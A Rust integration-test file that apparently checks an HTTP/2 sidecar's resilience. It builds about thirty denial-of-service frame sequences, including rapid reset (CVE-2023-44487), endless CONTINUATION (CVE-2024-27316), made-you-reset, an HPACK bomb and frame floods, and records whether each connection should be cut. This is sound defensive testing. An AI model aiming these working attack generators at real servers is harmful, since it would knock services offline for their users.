//! The attacks: what each sends on one connection, and what is expected of the sidecar.

use std::io;
use std::time::Duration;

use countersign_integration::frames::{
    ACK, AGAIN, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW, PADDED, PING, PRIORITY,
    PUSH_PROMISE, Peer, RST_STREAM, SETTINGS, frame, headers, kept, literal, request, reset, settings, window_update,
};
use futures::future::BoxFuture;

/// Makes an attack once.
type Run = fn(&mut Peer) -> BoxFuture<'_, io::Result<()>>;

/// One attack.
#[derive(Clone, Copy)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// The attacker's SETTINGS.
    pub(crate) settings: &'static [(u16, u32)],
    pub(crate) run: Run,
    /// How many connections are held open after it was made on each; with 0 it is made again on a new one.
    pub(crate) held: usize,
    pub(crate) verdict: Verdict,
    /// By how many bytes the sidecar may grow meanwhile.
    pub(crate) memory: u64,
    /// Below this a test says nothing of the honest client's 99th percentile.
    pub(crate) floor: Duration,
}

/// What becomes of the attacker's connections.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Verdict {
    /// Each is ended.
    Cut,
    /// None is ended: what is sent is allowed, or wrong for one stream only.
    Borne,
    /// Some may be: what is seen of the attack depends on how far its requests had come.
    Either,
}

use Verdict::{Borne, Cut, Either};

/// What a connection may cost: 4 MiB of window for what comes in, 64 KiB for each answer that is not read, of which
/// there are 250, and what the allocator keeps of it.
const ONE: u64 = 32 << 20;

/// The machine is shared, and the binary under test is not optimised.
const FLOOR: Duration = Duration::from_millis(100);

/// Every attack.
pub(crate) const ATTACKS: &[Attack] = &[
    attack("rapid reset (CVE-2023-44487)", Cut, |peer| Box::pin(rapid_reset(peer))),
    attack("rapid reset of requests under way", Either, |peer| Box::pin(patient_reset(peer))),
    attack("CONTINUATION without end (CVE-2024-27316)", Cut, |peer| Box::pin(continuations(peer, 8 << 10))),
    attack("empty CONTINUATION without end", Cut, |peer| Box::pin(continuations(peer, 0))),
    attack("PING flood", Borne, |peer| Box::pin(flood(peer, frame(PING, 0, 0, b"12345678")))),
    attack("PING acknowledged that was not sent", Borne, |peer| {
        Box::pin(flood(peer, frame(PING, ACK, 0, b"12345678")))
    }),
    attack("SETTINGS flood", Borne, |peer| Box::pin(flood(peer, settings(&[(INITIAL_WINDOW, 1 << 16)])))),
    attack("SETTINGS acknowledged that were not sent", Cut, |peer| Box::pin(flood(peer, frame(SETTINGS, ACK, 0, &[])))),
    attack("empty DATA flood", Cut, |peer| Box::pin(empty_data(peer, 0, &[]))),
    attack("DATA of padding alone", Cut, |peer| Box::pin(empty_data(peer, PADDED, &[3, 0, 0, 0]))),
    Attack {
        settings: &[(INITIAL_WINDOW, 0)],
        held: 3,
        memory: 3 * ONE,
        // 750 answers of half a MiB are fetched from the app in one breath, which any burst of them costs.
        floor: Duration::from_millis(600),
        ..attack("answers that are never read", Borne, |peer| Box::pin(stall(peer)))
    },
    attack("WINDOW_UPDATE by 0", Cut, |peer| Box::pin(flood(peer, window_update(0, 0)))),
    attack("WINDOW_UPDATE over the end", Cut, |peer| Box::pin(flood(peer, window_update(0, 0x7fff_ffff)))),
    attack("WINDOW_UPDATE by 1", Borne, |peer| Box::pin(flood(peer, window_update(0, 1)))),
    attack("HPACK bomb", Cut, |peer| Box::pin(bomb(peer))),
    attack("header list over the limit", Cut, |peer| Box::pin(long_list(peer))),
    attack("made to reset by windows (CVE-2025-8671)", Cut, |peer| Box::pin(made_to_reset(peer, overflow))),
    attack("made to reset by DATA after the end", Cut, |peer| Box::pin(made_to_reset(peer, late_data))),
    attack("made to reset by HEADERS after the end", Cut, |peer| Box::pin(made_to_reset(peer, late_headers))),
    attack("made to reset by a bad PRIORITY", Cut, |peer| Box::pin(made_to_reset(peer, bad_priority))),
    attack("PRIORITY flood", Borne, |peer| Box::pin(priorities(peer))),
    attack("unknown frames", Borne, |peer| Box::pin(flood(peer, frame(0xfa, 0xff, 9, &[7; 64])))),
    attack("even stream", Cut, |peer| Box::pin(flood(peer, headers(2, END_STREAM, &request("GET", "/"))))),
    attack("stream 0", Cut, |peer| Box::pin(flood(peer, headers(0, END_STREAM, &request("GET", "/"))))),
    attack("streams backwards", Cut, |peer| Box::pin(backwards(peer))),
    attack("the last stream", Borne, |peer| Box::pin(last_stream(peer))),
    attack("RST_STREAM of an idle stream", Cut, |peer| Box::pin(flood(peer, reset(77)))),
    attack("DATA on an idle stream", Cut, |peer| Box::pin(flood(peer, frame(DATA, 0, 77, b"x")))),
    attack("RST_STREAM of a wrong length", Cut, |peer| Box::pin(flood(peer, frame(RST_STREAM, 0, 1, b"x")))),
    attack("PUSH_PROMISE by a client", Cut, |peer| {
        Box::pin(flood(peer, frame(PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2])))
    }),
    attack("GOAWAY flood", Cut, |peer| Box::pin(flood(peer, frame(GOAWAY, 0, 0, &[0; 8])))),
    attack("a frame of 16 MiB", Cut, |peer| Box::pin(huge_frame(peer))),
];

const fn attack(name: &'static str, verdict: Verdict, run: Run) -> Attack {
    Attack { name, settings: &[], run, held: 0, verdict, memory: ONE, floor: FLOOR }
}

/// Requests that are given up in the same breath.
async fn rapid_reset(peer: &mut Peer) -> io::Result<()> {
    for _ in 0..20 {
        let mut batch = Vec::new();
        for _ in 0..100 {
            let stream = peer.stream();
            batch.extend(headers(stream, END_STREAM, &request("GET", "/")));
            batch.extend(reset(stream));
        }
        peer.send(&batch).await?;
    }
    peer.settle().await
}

/// Requests that are given up once the sidecar has begun to serve them.
async fn patient_reset(peer: &mut Peer) -> io::Result<()> {
    for _ in 0..10 {
        let streams: Vec<u32> = (0..10).map(|_| peer.stream()).collect();
        let begin: Vec<u8> =
            streams.iter().flat_map(|stream| headers(*stream, END_STREAM, &request("GET", "/big"))).collect();
        peer.send(&begin).await?;
        peer.settle().await?;
        peer.send(&streams.iter().flat_map(|stream| reset(*stream)).collect::<Vec<u8>>()).await?;
        peer.settle().await?;
    }
    Ok(())
}

/// A header block that does not end, of up to 32 MiB or 20,000 frames.
async fn continuations(peer: &mut Peer, size: usize) -> io::Result<()> {
    let stream = peer.stream();
    let field = literal("x-more", &"x".repeat(100));
    let block: Vec<u8> = field.iter().copied().cycle().take(size / field.len() * field.len()).collect();
    peer.send(&frame(HEADERS, END_STREAM, stream, &request("GET", "/"))).await?;
    let batch = frame(CONTINUATION, 0, stream, &block).repeat(if size == 0 { 1000 } else { 10 });
    for _ in 0..if size == 0 { 20 } else { 400 } {
        peer.send(&batch).await?;
    }
    peer.settle().await
}

/// 10,000 times the same frame.
async fn flood(peer: &mut Peer, frame: Vec<u8>) -> io::Result<()> {
    let batch = frame.repeat(1000);
    for _ in 0..10 {
        peer.send(&batch).await?;
        peer.settle().await?;
    }
    Ok(())
}

/// A body of which nothing comes.
async fn empty_data(peer: &mut Peer, flags: u8, payload: &[u8]) -> io::Result<()> {
    let stream = peer.stream();
    peer.send(&headers(stream, 0, &request("POST", "/"))).await?;
    let batch = frame(DATA, flags, stream, payload).repeat(1000);
    for _ in 0..10 {
        peer.send(&batch).await?;
        peer.settle().await?;
    }
    Ok(())
}

/// As many requests as streams are allowed, for big answers of which no byte may be sent.
async fn stall(peer: &mut Peer) -> io::Result<()> {
    for _ in 0..25 {
        let mut batch = Vec::new();
        for _ in 0..10 {
            batch.extend(headers(peer.stream(), END_STREAM, &request("GET", "/big")));
        }
        peer.send(&batch).await?;
        peer.settle().await?;
    }
    Ok(())
}

/// One field of 3 KiB, and requests that name it five thousand times each, in a byte each.
async fn bomb(peer: &mut Peer) -> io::Result<()> {
    let stream = peer.stream();
    let first = [request("GET", "/"), kept("x-bomb", &"x".repeat(3000))].concat();
    peer.send(&headers(stream, END_STREAM, &first)).await?;
    for _ in 0..20 {
        let mut block = request("GET", "/");
        block.extend([AGAIN; 5000]);
        let stream = peer.stream();
        peer.send(&headers(stream, END_STREAM, &block)).await?;
        peer.settle().await?;
    }
    Ok(())
}

/// Heads of twice the size that is allowed.
async fn long_list(peer: &mut Peer) -> io::Result<()> {
    let part: Vec<u8> = literal("x-long", &"x".repeat(1000)).repeat(15);
    for _ in 0..20 {
        let stream = peer.stream();
        let mut all = frame(HEADERS, END_STREAM, stream, &request("GET", "/"));
        for left in (0..8).rev() {
            all.extend(frame(CONTINUATION, if left == 0 { END_HEADERS } else { 0 }, stream, &part));
        }
        peer.send(&all).await?;
        peer.settle().await?;
    }
    Ok(())
}

/// Requests that the sidecar has to reset itself, for what is sent after them; more than it bears with.
async fn made_to_reset(peer: &mut Peer, spoil: fn(u32) -> Vec<u8>) -> io::Result<()> {
    for _ in 0..100 {
        let mut batch = Vec::new();
        for _ in 0..20 {
            let stream = peer.stream();
            batch.extend(headers(stream, END_STREAM, &request("GET", "/")));
            batch.extend(spoil(stream));
        }
        peer.send(&batch).await?;
        peer.settle().await?;
    }
    Ok(())
}

fn overflow(stream: u32) -> Vec<u8> {
    window_update(stream, 0x7fff_ffff)
}

fn late_data(stream: u32) -> Vec<u8> {
    frame(DATA, 0, stream, b"late")
}

fn late_headers(stream: u32) -> Vec<u8> {
    headers(stream, END_STREAM, &request("GET", "/"))
}

/// A stream that depends on itself.
fn bad_priority(stream: u32) -> Vec<u8> {
    frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat())
}

/// A tree of 10,000 streams that are never opened.
async fn priorities(peer: &mut Peer) -> io::Result<()> {
    for _ in 0..10 {
        let mut batch = Vec::new();
        for _ in 0..1000 {
            let stream = peer.stream();
            let parent = 0x8000_0000 | stream.saturating_sub(2);
            batch.extend(frame(PRIORITY, 0, stream, &[&parent.to_be_bytes()[..], &[255]].concat()));
        }
        peer.send(&batch).await?;
        peer.settle().await?;
    }
    Ok(())
}

async fn backwards(peer: &mut Peer) -> io::Result<()> {
    let block = request("GET", "/");
    peer.send(&[headers(99, END_STREAM, &block), headers(97, END_STREAM, &block)].concat()).await?;
    peer.settle().await
}

/// After it no other can be opened, but it is answered itself.
async fn last_stream(peer: &mut Peer) -> io::Result<()> {
    peer.next = 0x7fff_ffff;
    let body = peer.get("/").await?;
    if body == b"well" { peer.settle().await } else { Err(io::Error::other("not answered")) }
}

/// A frame larger than is allowed, by its header.
async fn huge_frame(peer: &mut Peer) -> io::Result<()> {
    let stream = peer.stream();
    let mut begin = vec![0xff, 0xff, 0xff, DATA, 0];
    begin.extend(stream.to_be_bytes());
    peer.send(&begin).await?;
    for _ in 0..64 {
        peer.send(&[0; 1 << 14]).await?;
    }
    peer.settle().await
}
